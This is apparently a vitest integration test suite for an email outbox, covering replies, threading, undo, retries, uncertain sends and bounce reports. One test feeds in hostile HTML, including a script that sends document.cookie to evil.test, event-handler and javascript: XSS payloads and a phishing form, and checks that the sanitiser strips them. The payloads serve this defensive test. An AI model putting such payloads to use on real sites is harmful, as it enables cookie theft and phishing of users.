// Sending through the real test bench: Postfix submission (SASL) and Dovecot IMAP.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MailboxRow } from '../../src/db/schema.js';
import { ingestMail } from '../../src/modules/conversations/index.js';
import { loadOwnAddresses } from '../../src/modules/mailboxes/index.js';
import {
  type Actor,
  attachBounce,
  cancelSend,
  composeContext,
  outboxJobHandlers,
  queueSend,
  resolveSend,
  runSendJob,
  runSentCopyJob,
} from '../../src/modules/outbox/index.js';
import { saveSendPreferences, saveSignatureSettings } from '../../src/modules/outbox/settings.js';
import { syncMailboxOnce } from '../../src/modules/sync/index.js';
import { startWorker } from '../../src/worker.js';
import { createTestDatabase, engines, type TestDatabase } from '../support/databases.js';
import { deliver, emptyMailboxes, rawMail } from '../support/mail-server.js';
import { createAgent, findMail, startSubmissionProxy, waitForMail } from '../support/outbox.js';
import { addTestImapMailbox, openTestWorkspace, quietLogger } from '../support/workspace.js';

const customer = 'buyer@customer.test';
const token = () => `T${Date.now().toString(36)}${Math.random().toString(36).slice(2, 6)}`;

describe.each(engines)('outbox on %s', (engine) => {
  let database: TestDatabase;
  let ws: Awaited<ReturnType<typeof openTestWorkspace>>;
  let sales: MailboxRow;
  let agent: Actor;

  const deps = () => ({
    db: ws.db,
    engine: ws.engine,
    blobs: ws.blobs,
    messageIds: ws.messageIds,
    recordReopened: ws.recordReopened,
    teamActivity: ws.teamActivity,
    clock: ws.clock,
  });
  const workerDeps = (extra: Partial<Parameters<typeof outboxJobHandlers>[0]> = {}) => ({
    db: ws.db,
    blobs: ws.blobs,
    secrets: ws.secrets,
    logger: quietLogger,
    clock: ws.clock,
    ...extra,
  });
  /** The customer writes in; returns the conversation and the customer's Message-ID. */
  async function customerWrites(subject: string, body = 'Please quote 500 pcs. 请报价。') {
    const messageId = `<${token()}@customer.test>`;
    const raw = Buffer.from(rawMail({ subject, messageId, body }));
    const ctx = {
      engine: ws.engine,
      ownAddresses: await loadOwnAddresses(ws.db),
      messageIds: ws.messageIds,
      recordReopened: ws.recordReopened,
      teamActivity: ws.teamActivity,
    };
    const stored = await ingestMail({ db: ws.db, blobs: ws.blobs, ctx }, { raw, mailboxIds: [sales.id], source: 'import' });
    return { conversationId: stored.conversationId, messageId: stored.messageId, header: messageId };
  }
  /** The undo window ends (the clock moves on) without waiting for it. */
  async function endUndoWindow(outboxId: string) {
    await ws.db
      .updateTable('outbox_messages')
      .set({ send_after: Date.now() - 1 })
      .where('id', '=', outboxId)
      .execute();
  }
  /** A plain reply to the customer in the thread, the request most tests here queue. */
  const replyToCustomer = (conversationId: string, subject: string, html: string) => ({
    mailboxId: sales.id,
    mode: 'reply' as const,
    conversationId,
    to: [customer],
    cc: [],
    bcc: [],
    subject: `Re: ${subject}`,
    html,
    uploadIds: [],
    force: false,
  });
  const outboxRow = (id: string) => ws.db.selectFrom('outbox_messages').selectAll().where('id', '=', id).executeTakeFirstOrThrow();

  beforeAll(async () => {
    database = await createTestDatabase(engine);
    ws = await openTestWorkspace(database);
    await emptyMailboxes('sales@acme.test');
    await emptyMailboxes(customer);
    await emptyMailboxes('buyer2@customer.test');
    sales = await addTestImapMailbox(ws, 'sales@acme.test');
    ({ actor: agent } = await createAgent(ws, sales, `li.wei.${engine}@acme.test`, 'Li Wei'));
    await saveSendPreferences(ws.db, agent.user.id, { undoSeconds: 5, title: 'Export Manager' });
    await saveSignatureSettings(ws.db, {
      mailboxId: sales.id,
      signatureHtml:
        '<p>--<br><strong>{{agent.name}}</strong>, {{agent.title}}<br>{{company.name}} · {{company.website}} · {{company.phone}}</p>',
      companyName: 'Acme Tools Co., Ltd.',
      logoUrl: '',
      website: 'https://acme.test',
      phone: '+86 574 5555 0100',
      sentCopy: 'always',
    });
  });

  afterAll(async () => {
    await ws?.close();
    await database?.drop();
  });

  it('a reply reaches the customer with the signature, threading headers and a plain-text alternative, once, and its Sent copy syncs back as the same message', async () => {
    const subject = `RFQ ${token()}`;
    const thread = await customerWrites(subject);
    const context = await composeContext(deps(), agent, { conversationId: thread.conversationId, mode: 'reply' });
    expect(context.defaults).toMatchObject({ mailboxId: sales.id, to: [customer], cc: [], subject: `Re: ${subject}` });

    const item = await queueSend(deps(), agent, {
      mailboxId: sales.id,
      mode: 'reply',
      conversationId: thread.conversationId,
      replyToMessageId: thread.messageId,
      to: [customer],
      cc: [],
      bcc: ['buyer2@customer.test'],
      subject: `Re: ${subject}`,
      html: '<p>Dear Maria,</p><p>Our price is <strong>USD 4.20</strong> FOB Ningbo. 价格如上。</p>',
      uploadIds: [],
      seenAt: context.seenAt,
      force: false,
    });
    expect(item.state).toBe('scheduled');
    expect(item.conversationId).toBe(thread.conversationId);
    // Written first: the message is in the conversation before anything left.
    const stored = await ws.db.selectFrom('messages').selectAll().where('id', '=', item.messageId).executeTakeFirstOrThrow();
    expect(stored.direction).toBe('out');

    await endUndoWindow(item.id);
    await runSendJob(workerDeps(), item.id);
    const sent = await outboxRow(item.id);
    expect(sent.state).toBe('sent');
    expect(sent.attempts).toBe(1);

    const [received] = await waitForMail(customer, 'INBOX', subject);
    const mail = received?.parsed;
    expect(mail?.messageId).toBe(sent.message_id_header);
    expect(ws.messageIds.verifiedConversation([sent.message_id_header])).toBe(thread.conversationId);
    expect(mail?.inReplyTo).toBe(thread.header);
    expect([mail?.references].flat()).toContain(thread.header);
    expect(mail?.replyTo?.value[0]?.address).toBe('sales@acme.test');
    expect(mail?.from?.value[0]?.address).toBe('sales@acme.test');
    expect(mail?.text).toContain('USD 4.20');
    expect(mail?.text).toContain('Li Wei');
    expect(mail?.text).toContain('Acme Tools Co., Ltd.');
    expect(mail?.html).toContain('<strong>Li Wei</strong>');
    expect(received?.raw.toString('latin1')).toMatch(/Content-Type: multipart\/alternative/i);
    // Bcc went by envelope only: delivered, but named nowhere in the headers.
    const [bccCopy] = await waitForMail('buyer2@customer.test', 'INBOX', subject);
    expect(bccCopy?.parsed.messageId).toBe(sent.message_id_header);
    expect(received?.raw.toString('latin1')).not.toMatch(/buyer2@customer\.test/);

    // Sent folder: appended once, even if the job runs again.
    await runSentCopyJob(workerDeps(), item.id);
    await ws.db.updateTable('outbox_messages').set({ sent_copy: 'pending' }).where('id', '=', item.id).execute();
    await runSentCopyJob(workerDeps(), item.id);
    expect((await outboxRow(item.id)).sent_copy).toBe('done');
    const sentCopies = await findMail('sales@acme.test', 'Sent', subject);
    expect(sentCopies).toHaveLength(1);

    // The sync reads Sent and recognises the copy as the message already stored.
    const before = await ws.db
      .selectFrom('messages')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    const report = await syncMailboxOnce({ ...ws, logger: quietLogger }, sales);
    expect(report.ok).toBe(true);
    const after = await ws.db
      .selectFrom('messages')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    const ours = await ws.db.selectFrom('messages').select('id').where('message_id_header', '=', sent.message_id_header).execute();
    expect(ours).toHaveLength(1);
    const locations = await ws.db
      .selectFrom('message_locations')
      .select(['source', 'folder_path'])
      .where('message_id', '=', item.messageId)
      .execute();
    expect(locations.map((l) => l.folder_path).sort()).toEqual(['', 'Sent']);
    // Only the customer's original in INBOX was new to the sync (it came in by import here).
    expect(Number(after.n)).toBe(Number(before.n));
  });

  it('refuses a stale send with 409 and what changed, and sends when forced', async () => {
    const subject = `Collision ${token()}`;
    const thread = await customerWrites(subject);
    const context = await composeContext(deps(), agent, { conversationId: thread.conversationId, mode: 'reply' });
    await new Promise((r) => setTimeout(r, 5));
    // The customer writes again while the agent is typing.
    const raw = Buffer.from(rawMail({ subject: `Re: ${subject}`, inReplyTo: thread.header, body: 'Also 200 pcs of the 6 mm size.' }));
    const ctx = {
      engine: ws.engine,
      ownAddresses: await loadOwnAddresses(ws.db),
      messageIds: ws.messageIds,
      recordReopened: ws.recordReopened,
      teamActivity: ws.teamActivity,
    };
    const second = await ingestMail({ db: ws.db, blobs: ws.blobs, ctx }, { raw, mailboxIds: [sales.id], source: 'import' });
    expect(second.conversationId).toBe(thread.conversationId);
    const request = {
      mailboxId: sales.id,
      mode: 'reply' as const,
      conversationId: thread.conversationId,
      to: [customer],
      cc: [],
      bcc: [],
      subject: `Re: ${subject}`,
      html: '<p>Price attached.</p>',
      uploadIds: [],
      seenAt: context.seenAt,
      force: false,
    };
    const refused = await queueSend(deps(), agent, request).catch((e: unknown) => e);
    expect(refused).toMatchObject({ code: 'outbox.collision', statusCode: 409 });
    expect((refused as { details: { changes: { messageId: string; snippet: string }[] } }).details.changes).toEqual([
      expect.objectContaining({ messageId: second.messageId, snippet: expect.stringContaining('6 mm') }),
    ]);
    const outgoing = await ws.db.selectFrom('outbox_messages').select('id').where('conversation_id', '=', thread.conversationId).execute();
    expect(outgoing).toHaveLength(0);
    const forced = await queueSend(deps(), agent, { ...request, force: true });
    expect(forced.state).toBe('scheduled');
    await cancelSend(deps(), agent, forced.id);
  });

  it('hostile HTML in the agent body never leaves: scripts, event handlers, javascript: links, forms, frames, CSS tricks', async () => {
    const subject = `Sanitise ${token()}`;
    const thread = await customerWrites(subject);
    const hostile = [
      '<p>Our offer follows.<script>fetch("https://evil.test/steal?c="+document.cookie)</script></p>',
      '<p onclick="alert(1)">Click <a href="javascript:alert(2)">here</a> or <a href="https://acme.test/catalogue">our catalogue</a>.</p>',
      '<img src="x" onerror="alert(3)"><svg><script>alert(4)</script><circle onload="alert(5)"></circle></svg>',
      '<iframe src="https://evil.test/frame"></iframe><form action="https://evil.test/phish"><input name="pw"></form>',
      '<div style="background:url(javascript:alert(6));width:expression(alert(7))">Best regards</div>',
      '<meta http-equiv="refresh" content="0;url=https://evil.test/"><object data="https://evil.test/x.swf"></object>',
    ].join('');
    const item = await queueSend(deps(), agent, replyToCustomer(thread.conversationId, subject, hostile));
    await endUndoWindow(item.id);
    await runSendJob(workerDeps(), item.id);
    expect((await outboxRow(item.id)).state).toBe('sent');
    const [received] = await waitForMail(customer, 'INBOX', subject);
    const html = String(received?.parsed.html);
    // What the agent meant is there…
    expect(html).toContain('Our offer follows.');
    expect(html).toContain('href="https://acme.test/catalogue"');
    expect(html).toContain('Best regards');
    expect(html).toContain('Acme Tools Co., Ltd.');
    // …and nothing that runs, submits, frames or redirects.
    for (const bad of [
      /<script/i,
      /\son[a-z]+\s*=/i,
      /javascript:/i,
      /<iframe/i,
      /<form/i,
      /<input/i,
      /expression\(/i,
      /<meta/i,
      /<object/i,
      /evil\.test/i,
    ]) {
      expect(html).not.toMatch(bad);
    }
    expect(received?.raw.toString('utf8')).not.toMatch(/<script|onerror=|onclick=/i);
  });

  it('refuses a mail without a body (400 outbox.empty_body), but a forward may go without words of its own', async () => {
    const subject = `Empty ${token()}`;
    const thread = await customerWrites(subject);
    const request = {
      mailboxId: sales.id,
      mode: 'reply' as const,
      conversationId: thread.conversationId,
      to: [customer],
      cc: [],
      bcc: [],
      subject: `Re: ${subject}`,
      uploadIds: [],
      force: false,
    };
    for (const html of ['', '<p></p>', '<p> &nbsp; </p><p><br></p>', '<script>alert(1)</script>']) {
      await expect(queueSend(deps(), agent, { ...request, html })).rejects.toMatchObject({ code: 'outbox.empty_body', statusCode: 400 });
    }
    expect(
      await ws.db.selectFrom('outbox_messages').select('id').where('conversation_id', '=', thread.conversationId).execute(),
    ).toHaveLength(0);
    const forward = await queueSend(deps(), agent, { ...request, mode: 'forward', subject: `Fwd: ${subject}`, html: '<p></p>' });
    expect(forward.state).toBe('scheduled');
    await cancelSend(deps(), agent, forward.id);
  });

  it('undo within the window: the worker never sends, the message is gone and comes back as a draft', async () => {
    const subject = `Undo ${token()}`;
    const thread = await customerWrites(subject);
    const messagesBefore = await ws.db
      .selectFrom('conversation_messages')
      .select('message_id')
      .where('conversation_id', '=', thread.conversationId)
      .execute();
    const worker = startWorker({
      queue: ws.queue,
      logger: quietLogger,
      clock: ws.clock,
      handlers: outboxJobHandlers(workerDeps()),
      schedules: [],
      pollMs: 50,
    });
    try {
      const item = await queueSend(deps(), agent, replyToCustomer(thread.conversationId, subject, '<p>Oops, wrong price.</p>'));
      expect(item.sendAfter - ws.clock.now()).toBeGreaterThan(4000);
      ws.clock.advance(1500);
      const draft = await cancelSend(deps(), agent, item.id);
      expect(draft).toMatchObject({ conversationId: thread.conversationId, html: '<p>Oops, wrong price.</p>', to: [customer] });
      await expect(cancelSend(deps(), agent, item.id)).rejects.toMatchObject({ code: 'outbox.not_found' });
      // A mail queued after it, past the end of both windows, reaches the customer: the worker has
      // gone past the undone mail's time, and found nothing to send.
      const laterSubject = `After undo ${token()}`;
      const later = await queueSend(deps(), agent, replyToCustomer(thread.conversationId, laterSubject, '<p>The right price.</p>'));
      ws.clock.advance(later.sendAfter - ws.clock.now() + 1000);
      expect(await waitForMail(customer, 'INBOX', laterSubject)).toHaveLength(1);
      expect(await ws.db.selectFrom('messages').select('id').where('id', '=', item.messageId).executeTakeFirst()).toBeUndefined();
      const messagesAfter = await ws.db
        .selectFrom('conversation_messages')
        .select('message_id')
        .where('conversation_id', '=', thread.conversationId)
        .execute();
      expect(messagesAfter.map((m) => m.message_id)).toEqual(
        expect.arrayContaining(messagesBefore.map((m) => m.message_id).concat(later.messageId)),
      );
      expect(messagesAfter).toHaveLength(messagesBefore.length + 1);
      expect(await findMail(customer, 'INBOX', subject)).toHaveLength(0);
    } finally {
      await worker.stop();
    }
  }, 30_000);

  it('SMTP down: retries with backoff, then failed with a reason the UI translates', async () => {
    const subject = `Down ${token()}`;
    const thread = await customerWrites(subject);
    const item = await queueSend(deps(), agent, replyToCustomer(thread.conversationId, subject, '<p>Hello</p>'));
    await endUndoWindow(item.id);
    // Nothing listens on port 1 of loopback: connection refused, before DATA.
    await ws.db.updateTable('mailboxes').set({ smtp_port: 1 }).where('id', '=', sales.id).execute();
    const worker = startWorker({
      queue: ws.queue,
      logger: quietLogger,
      handlers: outboxJobHandlers(workerDeps({ retryDelaysMs: [200, 400] })),
      schedules: [],
      pollMs: 50,
    });
    const states: string[] = [];
    try {
      const deadline = Date.now() + 15_000;
      for (;;) {
        const row = await outboxRow(item.id);
        if (states.at(-1) !== row.state) states.push(row.state);
        if (row.state === 'failed' || Date.now() > deadline) break;
        await new Promise((r) => setTimeout(r, 20));
      }
    } finally {
      await worker.stop();
      await ws.db.updateTable('mailboxes').set({ smtp_port: sales.smtp_port }).where('id', '=', sales.id).execute();
    }
    const row = await outboxRow(item.id);
    expect(row.state).toBe('failed');
    expect(row.attempts).toBe(3);
    expect(row.error_code).toBe('connection.unreachable');
    expect(states).toContain('queued');
    // The agent retries once the server is back: same Message-ID, sent once.
    await resolveSend(deps(), agent, item.id, 'resend');
    await runSendJob(workerDeps(), item.id);
    expect((await outboxRow(item.id)).state).toBe('sent');
    const received = await waitForMail(customer, 'INBOX', subject);
    expect(received).toHaveLength(1);
    expect(received[0]?.parsed.messageId).toBe(row.message_id_header);
  }, 30_000);

  it('no answer after DATA: uncertain, never a silent second send; the agent decides', async () => {
    const subject = `Timeout ${token()}`;
    const thread = await customerWrites(subject);
    const proxy = await startSubmissionProxy(() => 'swallow');
    await ws.db.updateTable('mailboxes').set({ smtp_port: proxy.port }).where('id', '=', sales.id).execute();
    try {
      const item = await queueSend(deps(), agent, replyToCustomer(thread.conversationId, subject, '<p>Hello</p>'));
      await endUndoWindow(item.id);
      const quick = workerDeps({ smtpTimeouts: { connectionTimeout: 3000, socketTimeout: 1500 } });
      await runSendJob(quick, item.id);
      const row = await outboxRow(item.id);
      expect(row.state).toBe('uncertain');
      expect(row.error_code).toBe('outbox.outcome_unknown');
      expect(proxy.accepted()).toBe(1);
      // The job running again (a retry, a second worker) does not send.
      await runSendJob(quick, item.id);
      expect((await outboxRow(item.id)).state).toBe('uncertain');
      // The proxy counts every DATA it passed on: one, so the customer has one copy.
      expect(proxy.accepted()).toBe(1);
      expect(await waitForMail(customer, 'INBOX', subject)).toHaveLength(1);
      // The agent checked with the customer: it arrived.
      const resolved = await resolveSend(deps(), agent, item.id, 'mark_sent');
      expect(resolved.state).toBe('sent');
    } finally {
      await proxy.close();
      await ws.db.updateTable('mailboxes').set({ smtp_port: sales.smtp_port }).where('id', '=', sales.id).execute();
    }
  }, 30_000);
  it('a reply goes to the customer it answers only, never to another customer of the thread', async () => {
    const subject = `Two buyers ${token()}`;
    const first = await customerWrites(subject);
    // A second customer joins the thread (a forward, a merged conversation).
    const raw = Buffer.from(
      rawMail({
        from: 'Chen Jie <buyer2@customer.test>',
        subject: `Re: ${subject}`,
        inReplyTo: first.header,
        body: 'We want the same offer.',
      }),
    );
    const ctx = {
      engine: ws.engine,
      ownAddresses: await loadOwnAddresses(ws.db),
      messageIds: ws.messageIds,
      recordReopened: ws.recordReopened,
      teamActivity: ws.teamActivity,
    };
    const second = await ingestMail({ db: ws.db, blobs: ws.blobs, ctx }, { raw, mailboxIds: [sales.id], source: 'import' });
    expect(second.conversationId).toBe(first.conversationId);
    const toFirst = await composeContext(deps(), agent, {
      conversationId: first.conversationId,
      mode: 'reply_all',
      messageId: first.messageId,
    });
    expect(toFirst.defaults).toMatchObject({ to: [customer], cc: [] });
    const toSecond = await composeContext(deps(), agent, { conversationId: first.conversationId, mode: 'reply' });
    expect(toSecond.defaults?.to).toEqual(['buyer2@customer.test']);
    const item = await queueSend(deps(), agent, {
      mailboxId: sales.id,
      mode: 'reply',
      conversationId: first.conversationId,
      replyToMessageId: first.messageId,
      to: toFirst.defaults?.to ?? [],
      cc: [],
      bcc: [],
      subject: `Re: ${subject}`,
      html: '<p>Offer attached.</p>',
      uploadIds: [],
      force: false,
    });
    const stored = await ws.db.selectFrom('messages').select('raw_sha256').where('id', '=', item.messageId).executeTakeFirstOrThrow();
    const sentRaw = (await ws.blobs.get(stored.raw_sha256)).toString('latin1');
    expect(sentRaw).not.toContain('buyer2@customer.test');
    expect(sentRaw).not.toContain('same offer');
    await cancelSend(deps(), agent, item.id);
  });

  it('a delivery report for a sent mail marks it bounced and joins its conversation', async () => {
    const subject = `Bounce ${token()}`;
    const thread = await customerWrites(subject);
    const item = await queueSend(deps(), agent, replyToCustomer(thread.conversationId, subject, '<p>Hello</p>'));
    await endUndoWindow(item.id);
    await runSendJob(workerDeps(), item.id);
    const sent = await outboxRow(item.id);
    expect(sent.state).toBe('sent');
    // The customer's server bounces it later (RFC 3464, as Postfix writes them).
    const dsnId = `<dsn.${token()}@mx.customer.test>`;
    const dsn = [
      'From: MAILER-DAEMON@customer.test (Mail Delivery System)',
      'To: sales@acme.test',
      `Subject: Undelivered Mail Returned to Sender ${subject}`,
      `Message-ID: ${dsnId}`,
      `Date: ${new Date().toUTCString()}`,
      'Auto-Submitted: auto-replied',
      'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary="B1.dsn"',
      '',
      '--B1.dsn',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      'This is the mail system at host mx.customer.test. Your message could not be delivered.',
      '',
      '--B1.dsn',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mx.customer.test',
      '',
      'Final-Recipient: rfc822; buyer@customer.test',
      'Original-Recipient: rfc822;buyer@customer.test',
      'Action: failed',
      'Status: 5.2.2',
      'Diagnostic-Code: smtp; 552 5.2.2 Mailbox full',
      '',
      '--B1.dsn',
      'Content-Type: text/rfc822-headers',
      '',
      `Message-ID: ${sent.message_id_header}`,
      'From: Sales <sales@acme.test>',
      `Subject: Re: ${subject}`,
      '',
      '--B1.dsn--',
      '',
    ].join('\r\n');
    await deliver({ envelope: { from: '', to: ['sales@acme.test'] }, raw: dsn });
    await waitForMail('sales@acme.test', 'INBOX', subject);
    await syncMailboxOnce({ ...ws, logger: quietLogger }, sales);
    const report = await ws.db.selectFrom('messages').select('id').where('message_id_header', '=', dsnId).executeTakeFirstOrThrow();
    expect(await attachBounce({ db: ws.db, blobs: ws.blobs }, report.id)).toBe(true);
    const bounced = await outboxRow(item.id);
    expect(bounced.state).toBe('bounced');
    expect(bounced.bounce_detail).toContain('Mailbox full');
    const link = await ws.db
      .selectFrom('conversation_messages')
      .select('conversation_id')
      .where('message_id', '=', report.id)
      .executeTakeFirstOrThrow();
    expect(link.conversation_id).toBe(thread.conversationId);
  });
});
